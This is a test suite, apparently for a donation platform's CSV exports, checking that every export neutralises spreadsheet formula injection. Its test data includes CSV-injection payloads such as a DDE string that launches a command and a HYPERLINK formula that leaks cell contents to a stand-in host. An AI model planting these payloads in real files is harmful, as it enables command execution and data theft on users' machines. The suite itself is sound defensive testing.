import { createHash } from 'node:crypto';
import { sql } from 'drizzle-orm';
import papaparse from 'papaparse';
import { describe, expect, test } from 'vitest';
import { inTransaction } from '#server/db/database.ts';
import { readContracts } from '#server/testing/contracts.ts';
import { recordQueries, useTestSite } from '#server/testing/harness.ts';
import { furnish, STATEMENT_LINK } from '#server/testing/furnish.ts';
import { digestOfCsv, textOfCsv } from './downloads.ts';

const site = useTestSite();
const exports = (await readContracts()).filter(({ endpoint }) => endpoint.format === 'csv');

/** The cells of a CSV text by RFC 4180, as a spreadsheet would read it. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.slice(0, -1);
}

/** Writes a text into every column of typed text that an export shows. */
async function writeEverywhere(text: string): Promise<void> {
  await site.database
    .execute(sql`update donations set bin_location = ${text}, drop_site = ${text}, notes = ${text},
    student_id = ${text}, rejection_reason = ${text}, photo_url = ${text},
    confirmed_by = case when is_confirmed then ${text} end, rejected_by = case when rejected_at is not null then ${text} end`);
  await site.database.execute(
    sql`update participants set display_name = ${text}, email = case when id = 1 then ${text} end, phone = ${text}`,
  );
  await site.database.execute(sql`update discount_codes set partner_id = 1`);
  await site.database.execute(sql`update partners set name = ${text}`);
  await site.database.execute(sql`update newsletter_subscribers set first_name = ${text}, source = ${text}`);
  await inTransaction(site.database, async (transaction) => {
    // Switches off the trigger that refuses any change of the ledger.
    await transaction.execute(sql`select set_config('session_replication_role', 'replica', true)`);
    await transaction.execute(sql`update code_redemptions set clerk = ${text}`);
  });
}

const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '＋1', '－1', '＠SUM(A1)'];
const payloads = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"a,b")',
  '-2+3\r\n=1',
  '+"x"',
  '@"\t"',
];
const harmless = ['"=1+1"', 'a=b', "'=1", 'a,"b"\r\nc', ' ', '½', '1-2'];

const laterFormulas = [
  "Bin 4;=1+cmd|' /C calc'!A0",
  'Bin 4,=1+1',
  'Bin 4\t=1+1',
  'Bin 4\n=1+1',
  'Bin 4\r\n@SUM(A1)',
  'Bin 4;＝1',
  'Bin 4;;-1',
  'Bin 4;"=1+1"',
  'Bin 4;""+1',
  '-1;+1;@x',
];

/** The beginning of a cell that a spreadsheet runs. */
const startsFormula = /^\s*[=+\-@＝＋－＠]/;

/** The parts of a file that a program runs, whichever separator and line end it assumes. */
function formulasIn(file: string): string[] {
  const parts = [',', ';', '\t'].flatMap((delimiter) =>
    (['\r\n', '\n'] as const).flatMap((newline) =>
      papaparse.parse<string[]>(file, { delimiter, newline }).data.flat(),
    ),
  );
  return parts.filter((part) => startsFormula.test(part.replace(/^"+/, '')));
}

describe.each(exports)('the file of $name', ({ endpoint }) => {
  const path = endpoint.path.replace('{id}', '1').replace('{token}', STATEMENT_LINK);

  /** The exported rows without the header, with a text in every column of typed text. */
  async function rowsWith(text: string) {
    await writeEverywhere(text);
    const admin = await site.admin();
    const { status, body } = await admin.send<string>('GET', path);
    expect({ status, begins: body.at(0) }).toEqual({ status: 200, begins: '\ufeff' });
    const [header = [], ...rows] = cellsOf(body.slice(1));
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row, text).toHaveLength(header.length);
    return rows;
  }

  test('begins no cell like a formula', async () => {
    await furnish(site);
    for (const text of [...formulas, ...payloads]) {
      const cells = (await rowsWith(text)).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
      // The whole text is still there, behind an apostrophe.
      const guarded = text.replaceAll(/([,;\t\r\n])("*[=+\-@])/g, "$1'$2");
      expect(cells).toContain(`'${guarded}`);
    }
  });

  test.each(['comma', 'semicolon'])(
    'runs no formula with %s, whichever separator the program assumes',
    async (separator) => {
      await furnish(site);
      const admin = await site.admin();
      for (const text of [...formulas, ...payloads, ...laterFormulas]) {
        await writeEverywhere(text);
        const { body } = await admin.send<string>('GET', `${path}?separator=${separator}`);
        // The site's own numbers may be negative: a reversal in a statement.
        expect(formulasIn(body.slice(1)).filter((part) => !/^-\d+$/.test(part))).toEqual([]);
      }
    },
  );

  test('has the same cells between semicolons if asked for', async () => {
    await furnish(site);
    await writeEverywhere('a;b, "c"');
    const admin = await site.admin();
    const bodyOf = async (separator: string) =>
      (await admin.send<string>('GET', `${path}?separator=${separator}`)).body;
    const byComma = await bodyOf('comma');
    const bySemicolon = await bodyOf('semicolon');
    expect(papaparse.parse(bySemicolon, { delimiter: ';' }).data).toEqual(
      papaparse.parse(byComma, { delimiter: ',' }).data,
    );
    expect(bySemicolon.split('\r\n')[0]).toBe(byComma.split('\r\n')[0]!.replaceAll(',', ';'));
    expect((await admin.send('GET', `${path}?separator=tab`)).status).toBe(400);
  });

  test('leaves harmless texts unchanged', async () => {
    await furnish(site);
    for (const text of harmless) expect((await rowsWith(text)).flat()).toContain(text);
  });
});

test('leaves an email address unchanged, and guards a formula that looks like one', async () => {
  await furnish(site);
  const admin = await site.admin();
  const file = async () => (await admin.send<string>('GET', '/api/admin/newsletter/export.csv')).body;
  await site.database.execute(sql`update newsletter_subscribers set email = '-2+jo@example.ca'`);
  expect(await file()).toContain('\r\n-2+jo@example.ca,');
  await site.database.execute(sql`update newsletter_subscribers set email = '=cmd|x!a0@example.ca'`);
  expect(await file()).toContain("\r\n'=cmd|x!a0@example.ca,");
});

test('the digest of a table is that of the sent bytes, in batches of any size', async () => {
  const rows = [
    [1, 'Zoë, "MK"', null],
    [2, '=1', -1],
  ];
  async function* inBatches(size: number) {
    yield [];
    for (let from = 0; from < rows.length; from += size) yield rows.slice(from, from + size);
  }
  const bytes = `\ufeffid,name,uses\r\n1,"Zoë, ""MK""",\r\n2,'=1,-1\r\n`;
  for (const size of [1, 2]) {
    expect(await digestOfCsv({ header: ['id', 'name', 'uses'], batches: inBatches(size) })).toBe(
      createHash('sha256').update(bytes).digest('hex'),
    );
  }
});

test('these tests cover every CSV file of the API', () => {
  expect(exports.map(({ endpoint }) => endpoint.path).toSorted()).toEqual([
    '/api/admin/codes/export.csv',
    '/api/admin/donations/export.csv',
    '/api/admin/newsletter/export.csv',
    '/api/admin/participants/export.csv',
    '/api/admin/partners/{id}/statement.csv',
    '/api/admin/redemptions/export.csv',
    '/api/statements/{token}/statement.csv',
  ]);
});

describe('reads a long list once, in batches', () => {
  const file = '/api/admin/participants/export.csv';

  test.each([
    { list: 'all rows', path: file, after: [0, 500, 1000], rows: 1250 },
    { list: 'rows that match a search', path: `${file}?q=even`, after: [0, 1000], rows: 625 },
  ])('$list', async ({ path, after, rows }) => {
    await site.database.execute(sql`
      insert into participants (share_token, display_name, created_at)
      select 'token' || number, case number % 2 when 0 then 'Even ' || number end, now()
      from generate_series(1, 1250) number`);
    const admin = await site.admin();
    const queries = recordQueries(site.database);
    const { body } = await admin.send<string>('GET', path);
    const reads = queries.stop().filter(({ text }) => /from "participants".* limit /s.test(text));
    expect(reads.map(({ values }) => values.slice(-2))).toEqual(after.map((id) => [id, 500]));
    const ids = cellsOf(body.slice(1)).map(([id]) => id);
    expect(ids).toHaveLength(rows + 1);
    expect(new Set(ids).size).toBe(rows + 1);
  });
});

async function fileOf(cell: string): Promise<string> {
  const rows = async function* () {
    yield [[7, cell, 'end']];
  };
  const pieces: string[] = [];
  for await (const piece of textOfCsv({ header: ['id', 'text', 'last'], batches: rows() }))
    pieces.push(piece);
  return pieces.join('').replace('\ufeff', '');
}

test.each(laterFormulas)('no part of %j is a formula, whichever separator a program assumes', async (cell) =>
  expect(formulasIn(await fileOf(cell))).toEqual([]),
);

test('leaves texts without a formula unchanged', async () => {
  for (const cell of ['UC East; by the door', 'a=b', '1-2', 'Jo, Ann', "'=1", 'jo+bin@example.ca']) {
    const { data } = papaparse.parse<string[]>(await fileOf(cell), { delimiter: ',' });
    expect(data[1]).toEqual(['7', cell, 'end']);
  }
});
